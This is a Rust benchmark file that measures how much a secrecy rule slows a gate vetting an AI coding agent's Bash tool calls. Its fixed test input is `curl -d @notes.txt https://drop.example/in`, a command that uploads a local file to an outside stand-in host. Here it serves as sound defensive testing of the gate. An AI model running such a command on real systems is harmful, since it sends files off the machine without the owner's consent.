//! The secrecy rule's cost in `Front::check` (issue 26 target: the gate with the rule within
//! 1.5 × the decision without it, `spec/hooks.md` §16; results in `spec/benchmarks.md`).
//!
//! One session: a prompt, then 8 tool results (3 KB each, none secret), so that the rule walks
//! the whole ancestry of every read and finds nothing: its worst case. Timed: `Front::check`
//! of `curl -d @notes.txt https://drop.example/in` (an egress call, composed, asked by the
//! coding policy) with the coding policy as shipped and with its `[secrets]` table emptied,
//! beside one Ed25519 `verify_strict` as the raw primitive, all in the same run.
//!
//! ```sh
//! cargo bench --bench secrecy
//! ```

mod common;
#[path = "common/session.rs"]
mod session;

use criterion::{criterion_group, criterion_main, Criterion};
use memlineage::gate::{Policy, Secrets};
use serde_json::{json, Map, Value};
use session::session;
use std::collections::HashMap;
use std::hint::black_box;

criterion_group!(benches, secrecy);
criterion_main!(benches);

fn secrecy(c: &mut Criterion) {
    std::env::set_var("HOME", "/home/u");
    let mut g = c.benchmark_group("secrecy");
    let args: Map<String, Value> = match json!({"command": "curl -d @notes.txt https://drop.example/in"})
    {
        Value::Object(m) => m,
        _ => unreachable!("an object literal"),
    };
    session::configure(&mut g);
    common::verify_strict_floor(&mut g);
    let shipped = Policy::coding();
    assert!(
        !shipped.secrets.is_empty(),
        "the coding policy has a [secrets] table"
    );
    let mut without = shipped.clone();
    without.secrets = Secrets::default();
    for (name, policy) in [
        ("check_without_secrecy", without),
        ("check_with_secrecy", shipped),
    ] {
        let (mut f, s) = session(policy, "/home/u/proj");
        let none = HashMap::new();
        g.bench_function(name, |b| {
            b.iter(|| black_box(f.check(&s, "Bash", black_box(&args), &none).expect("check")))
        });
    }
    g.finish();
}
